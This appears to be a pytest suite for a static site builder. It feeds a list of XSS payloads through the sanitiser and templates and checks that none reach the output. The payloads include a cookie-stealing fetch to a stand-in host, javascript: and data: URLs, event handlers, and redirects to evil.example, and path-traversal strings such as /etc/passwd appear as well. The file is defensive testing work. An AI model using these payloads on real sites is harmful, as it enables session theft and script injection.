"""Hostile content and faults: the sanitiser is the safety net, the output is never torn.

The regression test (bad-inputs B4 66) switches the validator off and feeds hostile
snippets through the real templates: nothing unsafe may reach any output file.
"""
from __future__ import annotations

import errno
import json
import textwrap
import os
import re
import shutil
import threading
import time
from contextlib import nullcontext
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

import site_builder
import site_builder.pipeline as pipeline
from site_builder import BuildFailed, Paths, build
from site_builder.model.errors import Problems
from site_builder.core.lock import build_lock
from site_builder.core.output import MARKER, write_site
from site_builder.core.sanitize import sanitize, url_allowed
from site_builder.core.templatelint import check_templates

from ..conftest import MINIMAL, TEMPLATES, write_tree
from ..publish_helpers import data_entities
from ..unsafe_html import site_findings

HOSTILE = [
    "Talks <script>fetch('//x/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a onclick="alert(1)">click</a>',
    '<a href="#" onmouseover="alert(1)">hover</a>',
    "[readout](javascript:alert(1))",
    "[x]( JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "![x](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="java\nscript:alert(1)">newline</a>',
    "<div>unclosed",
    "</div></main></body><script>alert(1)</script>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<!--<script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</script>",
    "[[wang-yi|<script>alert(1)</script>]]",
    '<details open ontoggle="alert(1)">x</details>',
    "<body onload=alert(1)>",
    '<input autofocus onfocus="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    "{{ lipsum(5) }} {% raw %}",
]


PARAGRAPHS, LINES = "\n\n".join(HOSTILE), "\n".join(HOSTILE)


def _quoted(text: str) -> str:
    return json.dumps(text)  # a JSON string is a valid double-quoted YAML scalar


def hostile_site(root: Path) -> Path:
    """Write the minimal site with every hostile snippet in several Markdown fields."""
    outcomes = "".join(f"  - {_quoted(snippet)}\n" for snippet in HOSTILE)
    readouts = "".join(f"  party{n}: {_quoted(snippet)}\n" for n, snippet in enumerate(HOSTILE))
    meeting = MINIMAL["meetings/talks.yaml"]
    return write_tree(root, {
        **MINIMAL,
        "site.yaml": textwrap.dedent(MINIMAL["site.yaml"]).strip() + f"\nintro: {_quoted(LINES)}\n",
        "meetings/talks.yaml": meeting,
        "meetings/more.yaml": "title: More\ndate: 2024-04-27\nlocation: x\nstatus: held\nparticipants: [wang-yi]\n"
                              f"summary: {_quoted(HOSTILE[0])}\nsources: [src-a]\noutcomes:\n{outcomes}"
                              f"readouts:\n{readouts}",
        "issues/fentanyl.yaml": "title: Fentanyl\nsources: [src-a]\n"
                                f"summary: {_quoted(HOSTILE[1])}\nbody: {_quoted(PARAGRAPHS)}\n",
        "people/mallory.yaml": 'name: "<b>Mallory</b> x onmouseover=alert(1)"\nrole: "\\" onmouseover=\\"alert(1)"\n'
                               f"country: c\nsummary: {_quoted(' '.join(HOSTILE))}\n",
        "sources/src-a.yaml": "title: An article\npublisher: A publisher\n"
                              f"note: {_quoted(LINES)}\nkind: press\n",
    })


def test_validator_reports_every_hostile_snippet(tmp_path):
    content = hostile_site(tmp_path / "content")
    with pytest.raises(BuildFailed) as failed:
        site_builder.load_site(content)
    lines = [str(p) for p in failed.value.problems]
    reported = [line for line in lines if "raw HTML" in line or "unsafe URL" in line]
    # On the value's line, at each snippet's own column (tests/core/test_contentlint.py).
    for where, field in (("site.yaml:5:", "intro"), ("fentanyl.yaml:3:", "summary"), ("fentanyl.yaml:4:", "body"),
                         ("more.yaml:6:", "summary"), ("mallory.yaml:4:", "summary"), ("src-a.yaml:3:", "note")):
        assert any(where in line and f": {field}: " in line for line in reported), where
    # Every snippet alone in a list item is reported, except the comment (a warning; the
    # sanitiser drops it) and template syntax (harmless text: content is never a template).
    items = {line.split(": ")[1] for line in reported if ": outcomes[" in line}
    harmless = {HOSTILE.index("<!--<script>alert(1)</script>-->"), HOSTILE.index("{{ lipsum(5) }} {% raw %}")}
    assert items == {f"outcomes[{n}]" for n in range(len(HOSTILE)) if n not in harmless}


def test_hostile_snippets_never_reach_a_reader(tmp_path, monkeypatch):
    clean = tmp_path / "clean"
    build(Paths(write_tree(tmp_path / "clean-content", MINIMAL), TEMPLATES, clean))
    allowed = {line.split(": ", 1)[1] for line in site_findings(clean)}  # what the templates themselves use
    monkeypatch.setattr(pipeline, "check_markdown", lambda *args: None)  # the net alone
    out = tmp_path / "_site"
    build(Paths(hostile_site(tmp_path / "content"), TEMPLATES, out))
    found = {line for line in site_findings(out) if line.split(": ", 1)[1] not in allowed}
    assert found == set()
    page = BeautifulSoup((out / "meetings/more/index.html").read_text(), "html.parser")
    assert len(page.find(id="outcomes-heading").parent.find_all("li")) == len(HOSTILE)
    assert "{{ lipsum(5) }} {% raw %}" in page.get_text()
    mallory = BeautifulSoup((out / "people/mallory/index.html").read_text(), "html.parser")
    assert mallory.h1.get_text(strip=True) == "<b>Mallory</b> x onmouseover=alert(1)"


@pytest.mark.parametrize("html, kept", [
    ('<a href="/repo/x/#cite-a" class="ref ref-person" title="t">x</a>', '<a href="/repo/x/#cite-a" class="ref ref-person" title="t">x</a>'),
    ('<h2 id="background">B</h2>', '<h2 id="background">B</h2>'),
    ('<sup class="cite" id="fnref-1"><a href="#fn-1">1</a></sup>', '<sup class="cite" id="fnref-1"><a href="#fn-1">1</a></sup>'),
    ('<a href="https://example.org/">s</a> <a href="mailto:a@b.org">m</a>', '<a href="https://example.org/">s</a> <a href="mailto:a@b.org">m</a>'),
    ('<a href="http://example.org/">plain http</a>', '<a>plain http</a>'),
    ('<table><tr><td style="text-align: right; color: red">1</td></tr></table>',
     '<table><tbody><tr><td style="text-align:right">1</td></tr></tbody></table>'),
])
def test_sanitizer_allow_list_keeps_anchors_and_safe_links(html, kept):
    assert sanitize(html) == kept


@pytest.mark.parametrize("url, allowed", [
    ("https://example.org/", True), ("mailto:a@b.org", True), ("/people/x/", True), ("#cite-a", True),
    ("../x/", True), ("http://example.org/", False), ("javascript:alert(1)", False),
    (" JaVaScRiPt:alert(1)", False), ("jav\tascript:x", False), ("java\nscript:x", False),
    ("\x01javascript:x", False), ("data:text/html,x", False), ("vbscript:x", False),
    # Issue 21 #11: another host, written as if relative.
    ("//evil.example", False), ("\\\\evil.example", False), ("/\\evil.example", False),
    ("\\/evil.example", False), (" //evil.example/p.gif", False), ("/\t/evil.example", False),
    ("\\evil.example", True),   # one backslash: the path /evil.example of this site
])
def test_url_allowed_reads_schemes_as_a_browser_does(url, allowed):
    assert url_allowed(url) is allowed


def test_real_templates_pass_the_lint():
    problems = Problems()
    check_templates(TEMPLATES, problems)
    assert problems.items == []


def test_no_code_path_compiles_content_as_a_template():
    package = Path(site_builder.__file__).parent
    for module in sorted(package.glob("*.py")):
        source = module.read_text()
        if module.name == "templatelint.py":
            continue  # names the forbidden calls in order to find them
        # Environment.from_string compiles text; Jinja's bucket.bytecode_from_string only loads bytecode.
        assert not re.search(r"\bfrom_string\(", source) and "jinja2.Template(" not in source, module.name


# Faults: the lock, interrupted and failed writes, overlaps, paths ------------------------

def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_second_build_waits_for_the_lock(make_site, tmp_path):
    out, messages = tmp_path / "_site", []
    with build_lock(out):
        with pytest.raises(BuildFailed, match="another build is still writing here"):
            with build_lock(out, wait=0.2, notify=messages.append):
                pass
    assert messages == [f"{out}: waiting for another build to finish…"]
    content = make_site()
    with build_lock(out):
        worker = threading.Thread(target=build, args=(Paths(content, TEMPLATES, out),))
        worker.start()
        time.sleep(0.5)
        assert worker.is_alive() and not out.exists()
    worker.join(timeout=60)
    assert (out / "index.html").is_file()


def test_leftovers_of_a_killed_build_are_cleaned_at_the_next_start(make_site, tmp_path):
    out = tmp_path / "_site"
    dead = [tmp_path / "._site.staging-999999999", tmp_path / "._site.old-999999998"]
    alive = tmp_path / "._site.staging-1"  # pid 1 is always running
    for folder in dead + [alive]:
        folder.mkdir()
        (folder / "index.html").write_text("half")
    build(Paths(make_site(), TEMPLATES, out))
    assert [folder.exists() for folder in dead] == [False, False] and alive.exists()


@pytest.mark.parametrize("fault", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_a_failed_or_interrupted_write_leaves_the_previous_site(make_site, tmp_path, monkeypatch, fault):
    out = tmp_path / "_site"
    build(Paths(make_site(), TEMPLATES, out))
    before = snapshot(out)
    calls = []

    def failing_write(self, data):
        calls.append(self)
        if len(calls) > 3:
            raise fault
        return original(self, data)

    original = Path.write_bytes
    monkeypatch.setattr(Path, "write_bytes", failing_write)
    with pytest.raises((BuildFailed, KeyboardInterrupt)) as raised:
        build(Paths(make_site({"issues/fentanyl.yaml": "title: Changed\nsummary: x\nsources: [src-a]\n"}),
                    TEMPLATES, out))
    if isinstance(fault, OSError):
        assert str(raised.value).endswith("cannot write the site: No space left on device")
    monkeypatch.undo()
    assert snapshot(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["_site", "content"]


@pytest.mark.parametrize("out_name", ["content/_site", "content", "templates-copy/out", "."])
def test_output_may_not_overlap_the_sources(make_site, tmp_path, out_name):
    content = make_site()
    templates = tmp_path / "templates-copy"
    templates.mkdir()
    (templates / "home.html").write_text("x")
    with pytest.raises(BuildFailed, match="output folder overlaps"):
        build(Paths(content, templates, tmp_path / out_name))


@pytest.mark.parametrize("relative", ["../x.html", "/etc/passwd", "", ".", "a/../../x.html", "a//b.html", "a\0b.html",
                                      "a\\..\\..\\x.html", "C:x.html"])
def test_write_time_path_check_refuses_escapes(tmp_path, relative):
    out = tmp_path / "_site"
    with pytest.raises(BuildFailed, match="output path escapes the output folder"):
        write_site([("index.html", b"ok"), (relative, b"bad")], None, out)
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_a_write_failing_on_a_writer_thread_fails_the_build_and_keeps_the_old_site(tmp_path):
    out = tmp_path / "_site"
    write_site([("index.html", b"old")], None, out)
    # Many files, so that the failure happens on a writer thread while more are queued.
    files = [(f"page-{n}/index.html", b"x") for n in range(300)] + [("page-7/index.html/clash.html", b"y")]
    with pytest.raises(BuildFailed, match="cannot write the site"):
        write_site(files + [(f"after-{n}/index.html", b"z") for n in range(300)], None, out, indexer=nullcontext)
    assert sorted(p.name for p in out.iterdir()) == [MARKER, "index.html"]
    assert (out / "index.html").read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["_site"]   # no staging folder left behind


def test_output_holds_only_regular_files_and_the_marker(make_site, tmp_path):
    out = tmp_path / "_site"
    build(Paths(make_site(), TEMPLATES, out))
    for path in out.rglob("*"):
        assert not path.is_symlink() and (path.is_file() or path.is_dir()), path
    assert (out / MARKER).is_file()


def test_strict_build_fails_on_an_orphan_and_on_a_large_asset_warning(make_site, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(TEMPLATES, templates)
    with open(templates / "static" / "video.mp4", "wb") as handle:
        handle.truncate(21_000_000)
    report = build(Paths(make_site(), templates, tmp_path / "_site"))
    assert [str(w) for w in report.warnings] == [
        f"{templates}/static/video.mp4: warning: file is 21,000,000 bytes, more than 20,000,000 "
        f"(large files slow every deploy)"]
    with pytest.raises(BuildFailed):
        build(Paths(make_site(), templates, tmp_path / "_site"), strict=True)


@pytest.mark.parametrize("args, message", [
    (["--content", "missing"], "missing: content folder not found (pass the folder that holds site.yaml with --content)"),
    (["--templates", "missing"], "missing: templates folder not found "
                                 "(pass the folder that holds base.html with --templates)"),
    (["--out", "/proc/no/such/out"], "/proc/no/such/out: cannot create the output folder: No such file or directory "
                                     "(choose another --out)"),
])
def test_missing_folders_are_problems_not_tracebacks(make_site, tmp_path, monkeypatch, capfd, args, message):
    from site_builder.cli import main
    make_site()
    shutil.copytree(TEMPLATES, tmp_path / "templates")
    monkeypatch.chdir(tmp_path)
    assert main(["build", *args]) == 1
    err = capfd.readouterr().err
    assert "Traceback" not in err and err.splitlines()[0] == message


def test_template_and_content_problems_come_in_one_run(make_site, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(TEMPLATES, templates)
    (templates / "extra.html").write_text("<p>{{ x|safe }}</p>\n")
    content = make_site({"sources/" + "a" * 81 + ".yaml": "title: t\npublisher: p\nkind: press\n"})
    with pytest.raises(BuildFailed) as failed:
        build(Paths(content, templates, tmp_path / "_site"))
    assert [p.message for p in failed.value.problems] == [
        "file name: id longer than 80 characters", "'|safe' is not allowed in templates"]


def test_html_comment_is_a_warning_and_never_published(make_site, tmp_path):
    content = make_site({"issues/fentanyl.yaml": "title: F\nsources: [src-a]\nsummary: |\n  Text.\n"
                                                 "  <!-- internal: call the embassy -->\n"})
    report = build(Paths(content, TEMPLATES, tmp_path / "_site"))
    assert [str(w) for w in report.warnings] == [
        f"{content}/issues/fentanyl.yaml:5:3: summary: warning: HTML comment is removed from the page "
        f"(use a YAML '# comment' line instead)"]
    page = (tmp_path / "_site/issues/fentanyl/index.html").read_text()
    assert "embassy" not in BeautifulSoup(page, "html.parser").decode()
    with pytest.raises(BuildFailed):
        build(Paths(content, TEMPLATES, tmp_path / "_site"), strict=True)


def test_a_pipe_among_the_templates_is_refused_not_read(make_site, tmp_path):
    templates = tmp_path / "templates"
    shutil.copytree(TEMPLATES, templates)
    (templates / "person.html").unlink()
    os.mkfifo(templates / "person.html")
    with pytest.raises(BuildFailed) as failed:
        build(Paths(make_site(), templates, tmp_path / "_site"))
    assert [str(p) for p in failed.value.problems] == [
        f"{templates}/person.html: not a regular file (a pipe or device would hang the build)"]


@pytest.mark.parametrize("markdown, what", [
    ("[x](//evil.example)", "link 'x' has an unsafe URL '//evil.example'"),
    ("[x](/\\evil.example)", "link 'x' has an unsafe URL '/\\\\evil.example'"),
    ("[x](\\\\\\\\evil.example)", "link 'x' has an unsafe URL '\\\\\\\\evil.example'"),
    ("![t](//evil.example/p.gif)", "image 't' has an unsafe URL '//evil.example/p.gif'"),
    ("[x][r]\n\n[r]: //evil.example", "link 'x' has an unsafe URL '//evil.example'"),
])
def test_links_to_another_host_are_refused_not_published(make_site, tmp_path, markdown, what):
    content = make_site({"issues/fentanyl.yaml": "title: F\nsources: [src-a]\nsummary: |\n  "
                                                 + markdown.replace("\n", "\n  ") + "\n"})
    with pytest.raises(BuildFailed) as failed:
        build(Paths(content, TEMPLATES, tmp_path / "_site"), search=False)
    assert [p.message for p in failed.value.problems] == [what]
    assert not (tmp_path / "_site").exists()


def test_machine_readable_outputs_carry_only_what_a_page_shows(make_site, tmp_path):
    """Issue 21 #10: an HTML comment (only a warning, and the deploy build is not --strict)
    and an unused reference definition (no warning at all) shipped verbatim in data.json."""
    content = make_site({
        "issues/fentanyl.yaml": "title: F\nsources: [src-a]\nsummary: |\n  Text with a [link][note].\n"
                                "  <!-- INTERNAL: call the embassy -->\n\n"
                                "  [note]: https://example.org/note\n  [memo]: https://intranet.example/secret\n",
        "meetings/talks.yaml": MINIMAL["meetings/talks.yaml"].replace(
            "summary: Talks", "summary: |\n          <!-- INTERNAL: off the record -->\n          Talks"),
    })
    report = build(Paths(content, TEMPLATES, tmp_path / "_site"), search=False)
    assert sorted(w.message for w in report.warnings) == [
        "HTML comment is removed from the page", "HTML comment is removed from the page",
        "reference definition '[memo]' is used by no link"]
    for path in sorted((tmp_path / "_site").rglob("*")):
        if path.is_file():
            text = path.read_bytes().decode("utf-8", "replace")
            assert "INTERNAL" not in text and "intranet" not in text, path
    issue = next(e for e in data_entities(tmp_path / "_site")["issues"])
    assert issue["fields"]["summary"]["markdown"] == ("Text with a [link][note].\n\n\n"
                                                      "[note]: https://example.org/note\n")
